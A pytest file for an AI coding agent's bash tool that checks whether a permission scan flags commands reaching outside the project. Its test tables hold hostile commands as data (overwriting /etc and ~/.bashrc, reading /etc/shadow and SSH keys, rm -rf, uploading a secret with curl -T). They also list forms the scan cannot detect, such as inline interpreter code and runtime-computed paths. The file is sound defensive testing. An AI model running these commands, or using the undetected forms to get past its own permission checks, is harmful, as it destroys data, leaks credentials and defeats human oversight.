"""Adversarial commands: ways of reaching outside the project, and which of them the bash scan catches.

Every command goes through the real tool with a permission recorder that rejects each ask, and with the
shell replaced by a tripwire: nothing is ever executed. A command the scan *catches* must raise one
``external_directory`` ask naming exactly the expected directories (it comes first, so the rejection
stops the call there). A command it does *not* catch still gets the ``bash`` ask (a human sees the whole
command line), and the table says why the scan cannot see the outside path. A command it *refuses*
does not parse and is never asked about.

``OURS`` marks what is caught only thanks to this scan's additions to OpenCode's baseline (see
:mod:`opencode_cli.tools._shell_scan`): redirections, cd tracking, word expansion, extra file commands,
wrappers, scripts of ``sh -c`` / ``eval``.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from opencode_cli import Project
from opencode_cli.context import PermissionRequest
from opencode_cli.errors import RejectedError, ToolError
from opencode_cli.tools import _shell

BASE = "baseline"
OURS = "ours"


@dataclass(frozen=True)
class Case:
    command: str
    dirs: tuple[str, ...] | None
    """Expected outside directories; ``None`` when the scan cannot see one."""
    why: str
    """Why it is caught (``BASE``/``OURS``), or the reason it is not."""
    refused: bool = False


def caught(command: str, *dirs: str, by: str = BASE) -> Case:
    return Case(command, dirs, by)


def missed(command: str, reason: str) -> Case:
    return Case(command, None, reason)


def refused(command: str, reason: str) -> Case:
    return Case(command, None, reason, refused=True)


# {outer} is a directory outside the project, {home} the user's home (outside too), {up} the project's
# parent directory; project/link is a symlink to {outer}.
CASES = [
    # redirections
    caught("echo pwned > /etc/x", "/etc", by=OURS),
    caught("echo pwned >> ~/.bashrc", "{home}", by=OURS),
    caught("ls 2> /tmp/../etc/y", "/etc", by=OURS),
    caught("echo hi &> {outer}/log", "{outer}", by=OURS),
    caught("cat < /etc/passwd", "/etc", by=OURS),
    caught("echo x >| '{outer}/quoted name'", "{outer}", by=OURS),
    caught("> /etc/cron.daily/job", "/etc/cron.daily", by=OURS),
    caught("cat <<EOF > /etc/profile.d/evil.sh\nexport X=1\nEOF", "/etc/profile.d", by=OURS),
    # substitutions
    caught("echo $(cat /etc/passwd)", "/etc"),
    caught("echo `cat /etc/shadow`", "/etc"),
    caught("cat <<EOF\n$(cat /etc/shadow)\nEOF", "/etc"),
    caught("cat <<EOF\n`rm -rf {outer}/data`\nEOF", "{outer}/data", by=OURS),
    caught("diff <(cat /etc/passwd) a", "/etc"),
    caught("echo data > >(tee /etc/x)", "/etc", by=OURS),
    caught("echo $(( $(cat /etc/shadow | wc -l) + 1 ))", "/etc"),
    # directories and the working directory
    caught("cd /; ls", "/"),
    caught("cd /; cat etc/passwd", "/", "/etc", by=OURS),
    caught("cd {outer} && rm -rf data", "{outer}", "{outer}/data", by=OURS),
    caught("(cd {outer} && rm -rf data)", "{outer}", "{outer}/data", by=OURS),
    caught("cd ~; rm -rf .ssh", "{home}", by=OURS),
    caught("pushd /etc && rm hosts; popd", "/etc", by=OURS),
    caught("cat ../secret", "{up}"),
    caught("rm -rf ../../x", "{up_up}"),
    caught("touch /tmp/../../etc/x", "/etc"),
    caught("cat link/passwd", "{outer}", by=OURS),  # the symlink-aware guard; upstream compares text
    # quoting and expansion
    caught('cat "/etc/pass wd"', "/etc"),
    caught("cat '/etc'/passwd", "/etc", by=OURS),
    caught("cat /etc/pass\\ wd", "/etc"),
    caught("cat $'\\x2fetc/passwd'", "/etc", by=OURS),
    caught("cat ~/.ssh/id_rsa", "{home}/.ssh"),
    caught("cat $HOME/.netrc", "{home}", by=OURS),
    caught('cat "${HOME}/.profile"', "{home}", by=OURS),
    caught("D=/etc; rm $D/passwd", "/etc", by=OURS),
    caught("rm -rf $UNSET_VARIABLE/*", "/", by=OURS),
    caught("cat /etc/{passwd,shadow}", "/etc"),
    caught("cat /e?c/passwd", "/"),
    # commands
    caught("cp a /etc/", "/etc"),
    caught("mv secret.txt {outer}/", "{outer}"),
    caught("chmod 777 /etc/passwd", "/etc"),
    caught("mkdir -p /opt/evil/dir", "/opt/evil"),
    caught("/bin/rm /etc/x", "/etc", by=OURS),
    caught("\\rm -rf {outer}", "{outer}", by=OURS),
    caught("tee /etc/x < a", "/etc", by=OURS),
    caught("dd if=a of=/etc/x", "/etc", by=OURS),
    caught("ln -s /etc/passwd p", "/etc", by=OURS),
    caught("truncate -s 0 /etc/hosts", "/etc", by=OURS),
    caught("install -m 755 a /usr/local/bin/a", "/usr/local/bin", by=OURS),
    caught("rsync -a src/ {outer}/backup/", "{outer}", by=OURS),
    caught("sed -i s/a/b/ /etc/hosts", "/etc", by=OURS),
    caught("tail -f /var/log/syslog", "/var/log", by=OURS),
    caught("grep -r password /etc", "/etc", by=OURS),
    caught("find / -delete", "/", by=OURS),
    caught("find . -exec cp {} /etc/ \\;", "/etc", by=OURS),
    caught("ls | xargs rm /etc/x", "/etc", by=OURS),
    caught("sudo rm -rf /var/lib/x", "/var/lib", by=OURS),
    caught("env -C /etc cat passwd", "/etc", by=OURS),
    caught("nohup rm -rf {outer}/data &", "{outer}/data", by=OURS),
    caught("bash -c 'cat /etc/passwd'", "/etc", by=OURS),
    caught('sh -c "rm -rf {outer}/data"', "{outer}/data", by=OURS),
    caught("eval 'rm /etc/x'", "/etc", by=OURS),
    caught("source /etc/profile", "/etc", by=OURS),
    caught(". {outer}/env.sh", "{outer}", by=OURS),
    caught("bash {outer}/script.sh", "{outer}", by=OURS),
    # any command: every word naming an existing path counts (ours)
    caught("cat $(echo /etc/passwd)", "/etc", by=OURS),
    caught("git -C /etc status", "/etc", by=OURS),
    caught("tar -xf a.tar -C /etc", "/etc", by=OURS),
    caught("ls /etc", "/etc", by=OURS),
    caught("awk 1 {outer}/secret", "{outer}", by=OURS),
    caught("ls -a {outer}", "{outer}", by=OURS),
    caught("ls -la {outer}/data", "{outer}/data", by=OURS),
    caught("ls -- {outer}", "{outer}", by=OURS),
    caught("ls --color=auto {outer}/da*", "{outer}", by=OURS),
    caught("sed -n p {outer}/x", "{outer}", by=OURS),
    caught("python {outer}/script.py", "{outer}", by=OURS),
    caught("python3 -u {outer}/script.py arg", "{outer}", by=OURS),
    caught("node {outer}/secret", "{outer}", by=OURS),
    caught("perl {outer}/script.py", "{outer}", by=OURS),
    caught("tar cf - {outer}", "{outer}", by=OURS),
    caught("tar -czf out.tgz -C {outer} data", "{outer}", by=OURS),
    caught("zip -r out.zip {outer}/data", "{outer}/data", by=OURS),
    caught("diff a {outer}/b", "{outer}", by=OURS),
    caught("diff -r {outer}/data src", "{outer}/data", by=OURS),
    caught("cmp {outer}/b {outer}/x", "{outer}", by=OURS),
    caught("wc -l {outer}/secret", "{outer}", by=OURS),
    caught("sort -o out.txt {outer}/secret", "{outer}", by=OURS),
    caught("cut -d: -f1 {outer}/secret", "{outer}", by=OURS),
    caught("xxd {outer}/secret", "{outer}", by=OURS),
    caught("base64 {outer}/secret", "{outer}", by=OURS),
    caught("sha256sum {outer}/secret {outer}/data", "{outer}", "{outer}/data", by=OURS),
    caught("stat {outer}/data", "{outer}/data", by=OURS),
    caught("du -sh {outer}", "{outer}", by=OURS),
    caught("jq . {outer}/secret", "{outer}", by=OURS),
    caught("rg password {outer}", "{outer}", by=OURS),
    caught("vim {outer}/secret", "{outer}", by=OURS),
    caught("chattr +i {outer}/secret", "{outer}", by=OURS),
    caught("echo {outer}/secret", "{outer}", by=OURS),
    caught("scp {outer}/secret host:/tmp", "{outer}", by=OURS),
    caught("curl -T {outer}/secret http://127.0.0.1:9/", "{outer}", by=OURS),
    caught("curl --upload-file={outer}/secret http://127.0.0.1:9/", "{outer}", by=OURS),
    caught("git --git-dir={outer}/data status", "{outer}/data", by=OURS),
    caught("git diff --no-index a {outer}/b", "{outer}", by=OURS),
    caught("git -C {outer} log", "{outer}", by=OURS),
    caught("make -C {outer}", "{outer}", by=OURS),
    caught("make -f {outer}/x", "{outer}", by=OURS),
    caught("make DESTDIR={outer} install", "{outer}", by=OURS),
    caught("python -m http.server --directory={outer}", "{outer}", by=OURS),
    caught("cd {outer}; awk 1 secret", "{outer}", by=OURS),
    caught("cd {outer}/data && ls ..", "{outer}/data", "{outer}", by=OURS),
    caught("awk 1 ~/.profile", "{home}", by=OURS),
    caught("ls $HOME", "{home}", by=OURS),
    caught("ls ~", "{home}", by=OURS),
    caught('wc "$HOME"/.profile', "{home}", by=OURS),
    caught("ls link", "{outer}", by=OURS),
    caught("xargs -a {outer}/secret echo", "{outer}", by=OURS),
    caught("sudo ls {outer}", "{outer}", by=OURS),
    caught("timeout 5 awk 1 {outer}/secret", "{outer}", by=OURS),
    caught("bash -c 'ls {outer}'", "{outer}", by=OURS),
    caught("bash run.sh {outer}/data", "{outer}/data", by=OURS),
    caught("sh -c 'cat \"$1\"' sh {outer}/secret", "{outer}", by=OURS),
    caught("dash -- run.sh {outer}", "{outer}", by=OURS),
    # what the scan cannot see
    missed('python -c \'open("/etc/x", "w").write("pwned")\'', "code in another language is opaque"),
    missed("perl -e 'unlink \"/etc/x\"'", "code in another language is opaque"),
    missed('node -e \'require("fs").rmSync("/etc/x")\'', "code in another language is opaque"),
    missed("cat $(echo /etc/x)", "the path is the output of a command, known only at run time"),
    missed('cd "$(dirname /etc/x)"; rm passwd', "the directory is the output of a command"),
    missed('for f in /etc/*; do cat "$f"; done', "a loop variable is set at run time"),
    missed('read -r p < list.txt; rm "$p"', "a variable set by read is known only at run time"),
    missed("echo /etc/x | xargs rm", "xargs takes its paths from standard input"),
    missed('f() { rm -rf "$1"; }; f /etc/x', "function arguments are not followed into the body"),
    missed("X=$(pwd)/../x; rm $X", "a variable holding command output is dynamic"),
    missed('bash -c "$CMD"', "a script in a variable is dynamic"),
    missed("curl -o /etc/x http://127.0.0.1:9/x", "an output file that does not exist yet (any command)"),
    missed("awk '{print > \"/etc/x\"}' a", "awk's program is opaque"),
    missed("vim -c ':w! /etc/x' -c ':q' a", "an editor's commands are opaque"),
    missed("docker run -v {outer}:/mnt img", "a path inside a larger word (SRC:DST) is not split out"),
    missed("gcc -I{outer}/data a.c", "a value glued to a short option (-Ipath) is not read"),
    missed("{outer}/script.py", "the command name is not an argument (a program run by its path)"),
    missed("awk 1 {outer}/not-there", "a path that does not exist asks nothing (outside the file commands)"),
    # what the scan refuses
    refused("exec 3<> /etc/x", "tree-sitter-bash cannot parse <> (read-write redirection)"),
    refused("cat /etc/passwd; echo )", "a syntax error: a broken tree is never trusted"),
]


@pytest.fixture
def world(make_project: Any, tmp_path: Path, home: Path) -> dict[str, str]:
    outer = tmp_path / "outer"
    (outer / "data").mkdir(parents=True)
    for name in ("secret", "script.py", "b", "x"):
        (outer / name).write_text("outside\n")
    (home / ".profile").write_text("export X=1\n")
    project = make_project(extra_env={"SHELL": "/bin/bash"})
    (project.directory / "link").symlink_to(outer, target_is_directory=True)
    return {
        "outer": str(outer),
        "home": str(home),
        "up": str(project.directory.parent),
        "up_up": str(project.directory.parent.parent),
        "project": str(project.directory),
    }


def fill(text: str, world: dict[str, str]) -> str:
    """``text`` with ``{outer}``, ``{home}``... replaced (other braces are shell syntax and stay)."""
    for key, value in world.items():
        text = text.replace("{" + key + "}", value)
    return text


def test_there_are_at_least_forty_adversarial_commands() -> None:
    assert len(CASES) >= 40
    assert sum(case.dirs is not None for case in CASES) >= 40
    assert len({case.command for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.command.split("\n")[0][:60] for c in CASES])
def test_adversarial_command(
    case: Case, world: dict[str, str], make_project: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def tripwire(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the command was executed")

    monkeypatch.setattr(_shell, "run", tripwire)
    project: Project = make_project(extra_env={"SHELL": "/bin/bash"})
    requests: list[PermissionRequest] = []

    async def reject(request: PermissionRequest) -> None:
        requests.append(request)
        raise RejectedError()

    context = project.session().context("bash", None)
    context.asker = reject  # every ask is recorded and rejected
    command = fill(case.command, world)
    tool = project.registry.get("bash").tool.load()
    if case.refused:
        with pytest.raises(ToolError, match=r"^Failed to parse command$"):
            asyncio.run(tool.run({"command": command}, context))
        assert requests == []
        return
    with pytest.raises(RejectedError):
        asyncio.run(tool.run({"command": command}, context))
    assert len(requests) == 1
    [request] = requests
    if case.dirs is None:
        assert request.permission == "bash", f"now caught: {request.patterns}; move it to the caught list"
        assert request.metadata == {"command": command}
        return
    expected = [fill(d, world) for d in case.dirs]
    assert request.permission == "external_directory"
    assert request.metadata["directories"] == expected
    assert request.patterns == request.always == [f"{d.rstrip('/')}/*" for d in expected]
    assert request.metadata["command"] == command


# Ordinary commands inside the project: words that name no outside path (option values, revisions, URLs,
# patterns, numbers, paths that do not exist) must never raise an ``external_directory`` ask.
ORDINARY = [
    "git log --oneline -5",
    "git status",
    "git diff HEAD~1 -- src/app.py",
    "git log -p src/app.py",
    "git show HEAD:README.md",
    "git checkout -b feature/x",
    "git commit -m 'fix: handle /etc paths'",
    "pytest tests/x.py -k name",
    "python -m pytest -q tests",
    "python -m pkg",
    "python -c 'print(1)'",
    "npm run build",
    "npm install --save-dev typescript@5",
    "make -C sub",
    "cargo test --release -- --nocapture",
    "grep -rn foo src",
    "rg -n 'def main' src",
    "ls",
    "ls -la src",
    "ls -la .",
    "cat README.md",
    "head -n 20 README.md",
    "sed -n 1,5p README.md",
    "find . -name '*.py'",
    "wc -l src/*.py",
    "sort -n -k2 README.md | uniq -c",
    "awk -F, '{print $1}' data.csv",
    "diff src/app.py tests/x.py",
    "tar czf build.tgz src",
    "echo /not/an/existing/path",
    "echo --prefix=/not/there",
    "curl -s 'https://example.com/api?x=1'",
    "date +%Y-%m-%d",
    "sleep 1 && echo done",
    "python -m http.server 8000 --bind 127.0.0.1",
    "cd src && ls ../tests",
    "echo a > out.txt 2> /dev/null",
]


def test_there_are_at_least_twenty_five_ordinary_commands() -> None:
    assert len(ORDINARY) >= 25
    assert len(set(ORDINARY)) == len(ORDINARY)


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_command_asks_no_external_directory(
    command: str, make_project: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def tripwire(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the command was executed")

    monkeypatch.setattr(_shell, "run", tripwire)
    project: Project = make_project(extra_env={"SHELL": "/bin/bash"})
    root = project.directory
    for name in ("src", "tests", "sub"):
        (root / name).mkdir(exist_ok=True)
    for name in ("README.md", "src/app.py", "tests/x.py", "sub/Makefile", "data.csv"):
        (root / name).write_text("x\n")
    requests: list[PermissionRequest] = []

    async def reject(request: PermissionRequest) -> None:
        requests.append(request)
        raise RejectedError()

    context = project.session().context("bash", None)
    context.asker = reject  # every ask is recorded and rejected
    tool = project.registry.get("bash").tool.load()
    with pytest.raises(RejectedError):
        asyncio.run(tool.run({"command": command}, context))
    assert [request.permission for request in requests] == ["bash"]


def table() -> str:
    """The adversarial table as Markdown (``python tests/tools/test_bash_adversarial.py``)."""
    rows = ["| # | command | scan | why |", "|---|---|---|---|"]
    for number, case in enumerate(CASES, 1):
        shown = case.command.replace("\n", "\\n").replace("|", "\\|")
        verdict = "refused" if case.refused else ("caught" if case.dirs is not None else "not caught")
        why = case.why if case.dirs is None else ("ours" if case.why == OURS else "baseline")
        rows.append(f"| {number} | `{shown}` | {verdict} | {why} |")
    return "\n".join(rows)


if __name__ == "__main__":
    print(table())
